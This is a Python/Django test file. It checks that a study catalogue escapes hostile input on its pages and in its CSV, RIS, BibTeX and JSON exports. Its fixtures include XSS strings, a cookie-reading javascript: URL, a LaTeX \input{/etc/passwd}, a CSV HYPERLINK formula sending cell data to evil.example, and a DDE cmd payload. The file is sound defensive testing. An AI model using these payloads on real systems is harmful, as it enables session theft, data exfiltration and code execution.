"""Hostile catalog content is stored as text and comes out inert on every page and export.

Pages checked here are the ones this branch has; the list pages join after the merge.
"""

import csv
import io
import json
import re

import bibtexparser
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware
from django.forms import modelform_factory
from django.test import TestCase

from studies import bibtex, exports
from studies.exports import FORMULA_PREFIXES
from studies.models import Source, Study
from tests.factories import make_condition, make_mention, make_source, make_study

SCRIPT = "<script>alert('x')</script>"
JS_URL = "javascript:alert(document.cookie)"
LATEX = r"\href{javascript:alert(1)}{click} \input{/etc/passwd} $x^2$ {unbalanced"
RLO = "\u202egnp.exe"  # right-to-left override: displays as "exe.png"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|'/c calc'!A0", "@SUM(1+1)"]
HUGE = "LDN " * 25_000  # 100 kB

HOSTILE_TITLES = [
    f"{SCRIPT} Low-dose naltrexone",
    LATEX,
    f"Fibromyalgia {RLO}",
    *FORMULAS,
    "Line one\nER  - \r\nTY  - JOUR",  # a newline that would forge a RIS record
    HUGE,
]


UNESCAPES = {escaped: char for char, escaped in bibtex.LATEX_ESCAPES.items()}
ESCAPED = re.compile("|".join(re.escape(e) for e in sorted(UNESCAPES, key=len, reverse=True)))


def latex_unescape(text):
    return ESCAPED.sub(lambda m: UNESCAPES[m.group(0)], text)


def hostile_studies():
    condition = make_condition(name=f"{SCRIPT} pain", description="<img src=x onerror=alert(1)>")
    source = make_source(title=f"{SCRIPT} blog", url=JS_URL, description=LATEX)
    studies = []
    for n, title in enumerate(HOSTILE_TITLES):
        study = make_study(
            conditions=[condition],
            title=title,
            authors=[FORMULAS[0], f"{SCRIPT}", "O'Brien, {J}"],
            journal=f"-{SCRIPT}",
            url=JS_URL,
            summary=f"{LATEX}\n{SCRIPT}\n{FORMULAS[1]}",
            year=2000 + n,
        )
        make_mention(study, source, quote=SCRIPT)
        studies.append(study)
    return condition, source, studies


class HostilePageTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.condition, cls.source, cls.studies = hostile_studies()

    def assert_inert(self, response):
        assert response.status_code == 200
        body = response.content.decode()
        assert SCRIPT not in body
        assert "<img src=x" not in body
        assert not re.search(r"""href=["']?\s*javascript:""", body, re.IGNORECASE)
        assert "<script" not in body.lower() or "<script src=" in body.lower()
        # The policy forbids inline script even if some escaping were ever missed.
        assert "script-src 'self'" in response["Content-Security-Policy"]

    def test_study_pages(self):
        for study in self.studies:
            response = self.client.get(study.get_absolute_url())
            self.assert_inert(response)
        # The text is shown, escaped, rather than dropped.
        response = self.client.get(self.studies[0].get_absolute_url())
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in response.content.decode()

    def test_condition_page(self):
        self.assert_inert(self.client.get(self.condition.get_absolute_url()))

    def test_source_page(self):
        self.assert_inert(self.client.get(self.source.get_absolute_url()))

    def test_home(self):
        self.assert_inert(self.client.get("/"))


def test_admin_forms_refuse_javascript_urls():
    for model in (Study, Source):
        form = modelform_factory(model, fields=["url"])(data={"url": JS_URL})
        assert not form.is_valid()
        assert "url" in form.errors


@pytest.mark.django_db
class TestExports:
    @pytest.fixture(autouse=True)
    def catalog(self):
        hostile_studies()
        self.studies = list(Study.objects.for_export().order_by("year"))

    def test_csv_cells_cannot_start_a_formula(self):
        text = "".join(exports.iter_csv(self.studies))
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == len(HOSTILE_TITLES)
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(FORMULA_PREFIXES), (column, value[:50])
        titles = [row["title"] for row in rows]
        assert titles[3] == "'" + FORMULAS[0]
        assert titles[-1] == HUGE

    def test_ris_values_stay_on_one_line(self):
        text = "".join(exports.iter_ris(self.studies))
        lines = [line for line in text.split("\r\n") if line]
        assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) for line in lines), [
            line[:60] for line in lines if not re.match(r"^[A-Z][A-Z0-9]  - ", line)
        ]
        assert text.count("TY  - ") == len(HOSTILE_TITLES)
        assert text.count("ER  - ") == len(HOSTILE_TITLES)
        assert "\n" not in text.replace("\r\n", "")

    def test_bibtex_parses_back_to_the_same_text(self):
        text = bibtex.dumps(self.studies)
        library = bibtexparser.parse_string(text)
        assert not library.failed_blocks
        assert len(library.entries) == len(self.studies)
        for entry, study in zip(library.entries, self.studies, strict=True):
            assert entry.key == study.slug
            # The field is exactly what was written, braces balanced, nothing injected...
            assert entry["title"] == bibtex.latex_escape(study.title)
            # ...and undoing the escapes gives the title back.
            assert latex_unescape(entry["title"]) == " ".join(study.title.split())

    @pytest.mark.xfail(
        strict=True,
        reason="pylatexenc, behind bibtexparser's LatexDecodingMiddleware, reads "
        r"\textbraceleft{} as '' and \textasciicircum{} as U+02C6: braces and carets are lost",
    )
    def test_bibtexparser_latex_decoding_gives_the_same_text(self):
        library = bibtexparser.parse_string(
            bibtex.dumps(self.studies), append_middleware=[LatexDecodingMiddleware()]
        )
        for entry, study in zip(library.entries, self.studies, strict=True):
            assert entry["title"] == " ".join(study.title.split())

    def test_json_is_valid_and_exact(self):
        data = json.loads("".join(exports.iter_json(self.studies)))
        assert [item["title"] for item in data] == [s.title for s in self.studies]
        assert data[0]["sources"][0]["quote"] == SCRIPT
